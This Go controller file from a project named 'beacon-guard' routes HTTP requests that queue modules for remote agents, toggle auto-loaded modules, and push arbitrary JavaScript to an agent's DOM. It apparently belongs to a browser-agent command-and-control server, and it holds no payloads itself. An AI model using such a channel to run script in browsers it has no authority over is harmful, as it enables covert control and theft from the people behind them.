package controllers

import (
	"encoding/json"
	"net/http"

	"beacon-guard/backend/app/dto"
	"beacon-guard/backend/app/services"
)

type ModuleController struct {
	Modules *services.ModuleService
	Dom     *services.DomService
}

func NewModuleController(modules *services.ModuleService, dom *services.DomService) *ModuleController {
	return &ModuleController{Modules: modules, Dom: dom}
}

// List serves GET /modules.
func (c *ModuleController) List(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(dto.ModulesResponse{
		Modules:           c.Modules.Available(),
		AutoLoadedModules: c.Modules.AutoEnabled(),
	})
}

// Create serves POST /module/{name}/{agentID}.
func (c *ModuleController) Create(w http.ResponseWriter, r *http.Request) {
	if err := c.Modules.Enqueue(r.PathValue("agentID"), r.PathValue("name")); err != nil {
		writeServiceError(w, err)
	}
}

// Remove serves DELETE /module/{name}/{agentID}.
func (c *ModuleController) Remove(w http.ResponseWriter, r *http.Request) {
	if err := c.Modules.Dequeue(r.PathValue("agentID"), r.PathValue("name")); err != nil {
		writeServiceError(w, err)
	}
}

// EnableAuto serves POST /automodule/{name}.
func (c *ModuleController) EnableAuto(w http.ResponseWriter, r *http.Request) {
	if err := c.Modules.EnableAuto(r.PathValue("name")); err != nil {
		writeServiceError(w, err)
	}
}

// DisableAuto serves DELETE /automodule/{name}.
func (c *ModuleController) DisableAuto(w http.ResponseWriter, r *http.Request) {
	if err := c.Modules.DisableAuto(r.PathValue("name")); err != nil {
		writeServiceError(w, err)
	}
}

// SendDom serves POST /dom/{agentID}.
func (c *ModuleController) SendDom(w http.ResponseWriter, r *http.Request) {
	var req dto.DomCommandRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil || req.JS == "" {
		w.WriteHeader(http.StatusNotFound)
		return
	}
	if err := c.Dom.Enqueue(r.PathValue("agentID"), req.JS); err != nil {
		writeServiceError(w, err)
	}
}
